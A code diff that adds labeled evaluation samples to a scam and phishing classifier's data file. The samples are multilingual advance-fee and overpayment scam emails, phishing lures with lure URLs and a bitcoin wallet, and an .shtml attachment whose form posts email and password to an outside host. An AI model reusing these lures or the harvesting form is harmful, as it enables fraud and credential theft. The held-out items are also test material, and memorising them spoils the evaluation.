@@ -1125,6 +1125,103 @@ Mit freundlichen Grüßen
 Jürgen Weber
 """, class_="spy", lang="de", kind="spy")
 
+# --- "seventh-fresh": written after the fixes this part led to, scored unseen --------------------------
+
+mail("f7-en-gmail-broker-bond.eml", provider="gmail", date="2026-12-02 05:12:40", offset="+0000",
+     **{"from": "Kevin O'Brien <kevin.obrien.supplyco@gmail.com>"},
+     subject="Samples on our FedEx account",
+     body="""Hi there,
+
+We like your 36" wall fans and plan an order of 3 x 40HQ. Please ship two samples on our FedEx account
+(we send the number). One thing: our customs broker needs a supplier bond of USD 120 lodged by your side
+before the samples can enter; he returns it once the PO is placed.
+
+Cheers,
+Kevin""", class_="scam", lang="en", kind="seller-pays-fee", part="seventh-fresh")
+
+mail("f7-es-gmail-cheque-transportista.eml", provider="gmail", date="2026-12-02 08:40:11", offset="-0500",
+     **{"from": "Hernán Quiroga <hernan.quiroga.import@gmail.com>"},
+     subject="Pago del pedido de ventiladores",
+     body="""Buenos días,
+
+Le enviamos hoy un cheque de 9.800 USD que incluye el flete. Cuando se acredite, transfiera el excedente
+de 3.100 USD a nuestro transportista por Western Union para que retire la mercancía.
+
+Saludos,
+Hernán""", class_="scam", lang="es", kind="overpayment", part="seventh-fresh")
+
+mail("f7-pt-gmail-taxa-cadastro.eml", provider="gmail", date="2026-12-02 10:05:31", offset="-0300",
+     **{"from": "Marcos Teixeira <marcos.teixeira.compras@gmail.com>"},
+     subject="Cadastro de fornecedor - pedido grande",
+     body="""Prezados,
+
+Temos um pedido de 600 ventiladores para obras públicas. Para ser cadastrado como fornecedor, a sua
+empresa precisa pagar a taxa de cadastro de US$ 200 ao nosso despachante; o valor será devolvido no
+primeiro pagamento.
+
+Atenciosamente,
+Marcos""", class_="scam", lang="pt", kind="seller-pays-fee", part="seventh-fresh")
+
+mail("f7-en-gmail-export-grant-btc.eml", provider="gmail", date="2026-12-02 03:30:09", offset="+0000",
+     **{"from": "Export Grants Office <exportgrants.office.2026@gmail.com>"},
+     subject="Your company qualified for an export grant",
+     body="""Dear Exporter,
+
+Your company has qualified for an international export development grant of USD 85,000. To release the
+grant to your account, a processing fee of 0.015 BTC must be paid to the wallet below within 72 hours.
+
+bc1q9x7hzk3m5w2e8r4t6y0u2i8o4p6a8s0d2f4g6
+
+Grants Office""", class_="scam", lang="en", kind="advance-fee", part="seventh-fresh")
+
+mail("f7-de-vps-rechnung-qr.eml", provider="vps", client_ip="91.92.240.18", vps_host="mail.rechnungs-center.eu",
+     date="2026-12-02 06:44:00", offset="+0100",
+     **{"from": "Buchhaltung <rechnung@rechnungs-center.eu>"},
+     subject="Ihre Rechnung Nr. 2026-7781",
+     body="""Guten Tag,
+
+Ihre Rechnung Nr. 2026-7781 liegt bereit. Aus Sicherheitsgründen bitte den QR-Code im Anhang mit dem
+Smartphone scannen und sich mit Ihren E-Mail-Zugangsdaten anmelden.
+
+Ihre Buchhaltung""", attach=[("Rechnung_QR.png", "image/png", "\x89PNG\r\n\x1a\nQR")],
+     class_="phishing", lang="de", kind="qr-lure", part="seventh-fresh")
+
+mail("f7-it-vps-casella-piena.eml", provider="vps", client_ip="45.131.66.20", vps_host="mail.webmail-avvisi.it.com",
+     date="2026-12-02 02:10:55", offset="+0100",
+     **{"from": "Amministratore Posta <avvisi@webmail-avvisi.it.com>"},
+     subject="Casella di posta piena al 98%",
+     body="""Gentile utente,
+
+la sua casella sales@kaiyuan-fans.example ha raggiunto il 98% dello spazio. I nuovi messaggi sono in
+attesa. Liberi spazio gratuitamente qui: https://casella-spazio.pages.dev/accedi
+
+Amministratore di Posta""", class_="phishing", lang="it", kind="mailbox", part="seventh-fresh")
+
+mail("f7-en-vps-esign-shtml.eml", provider="vps", client_ip="185.244.25.9", vps_host="mx.contracts-sign.net",
+     date="2026-12-02 01:05:22", offset="+0000",
+     **{"from": "E-Signature Service <sign@contracts-sign.net>"},
+     subject="Completed: Distribution Agreement - please countersign",
+     body="""Your counterparty has signed the Distribution Agreement. Please open the attached secure document
+and countersign with your email account.
+
+E-Signature Service""", attach=[("Distribution_Agreement.shtml", "text/html",
+              "<html><body><form action='https://sign-secure.top/c.php' method='post'>"
+              "<input name='email'><input name='password' type='password'></form></body></html>")],
+     class_="phishing", lang="en", kind="esign-lure", part="seventh-fresh")
+
+mail("f7-en-vps-supplier-portal-bank.eml", provider="vps", client_ip="193.29.13.77", vps_host="portal.vendor-update.co",
+     date="2026-12-02 04:20:31", offset="+0000",
+     **{"from": "Supplier Portal <noreply@vendor-update.co>"},
+     subject="Action required: confirm your payment details",
+     body="""Dear Supplier,
+
+Our accounts payable system is moving to a new platform. To keep receiving payments, confirm your company
+bank details and log in with your business email before 5 December:
+
+https://supplier-payments.vercel.app/confirm
+
+Accounts Payable""", class_="phishing", lang="en", kind="account-lure", part="seventh-fresh")
+
 # make_seventh.py reads "class_" (a Python keyword cannot be a keyword argument)
 for _m in MAILS.values():
     _m["class"] = _m.pop("class_")
@@ -1204,4 +1301,23 @@ CHATS: list[dict] = [
     _c("c7-x-10", "message", "2026-12-01T11:00:00+08:00", "DHL Express",
        "DHL: your shipment 8821 is on hold, pay the customs fee of 2.99 EUR to confirm delivery: "
        "https://dhl-redelivery-eu.top/pay", "phishing", "en", "parcel-lure"),
+    # "seventh-fresh": written after the fixes, scored unseen
+    _c("f7-c-01", "whatsapp", "2026-12-02T09:12:00+08:00", "Jack",
+       "hi dear, I want buy 300 pcs, can you accept bitcoin? send me your BTC address and I pay today", "scam", "en",
+       "crypto", part="seventh-fresh", phone="+1 555 0148 220"),
+    _c("f7-c-02", "message", "2026-12-02T10:30:00+08:00", "Ronel",
+       "Sir, nag-overpay po kami ng 50,000 pesos, paki-send na lang po sa account ng forwarder namin",
+       "scam", "tl", "overpayment", part="seventh-fresh"),
+    _c("f7-c-03", "im", "2026-12-02T11:02:00+08:00", "Brian",
+       "what is your factory cost for the 36 inch fan and which company supplies your blades? we are not ordering now",
+       "spy", "en", "spy", part="seventh-fresh"),
+    _c("f7-c-04", "message", "2026-12-02T12:00:00+08:00", "La Poste",
+       "Bonjour, votre colis est en attente, réglez 1,99 € de frais de livraison ici : https://laposte-suivi.info/x",
+       "phishing", "fr", "parcel-lure", part="seventh-fresh"),
+    _c("f7-c-05", "whatsapp", "2026-12-02T13:20:00+08:00", "Chidi",
+       "Hello, who makes your motors? need 80 pcs KY-AF900 with copper motor, shipping to Lagos, payment TT",
+       "genuine", "en", "inquiry", part="seventh-fresh", phone="+234 803 555 0192", country="NG"),
+    _c("f7-c-06", "whatsapp", "2026-12-02T14:45:00+08:00", "Yerlan",
+       "Can I pay USDT for 50 pcs KY-AF600 delivered to Almaty? my company account is in Dubai",
+       "genuine", "en", "inquiry", part="seventh-fresh", phone="+7 701 555 8812", country="KZ"),
 ]
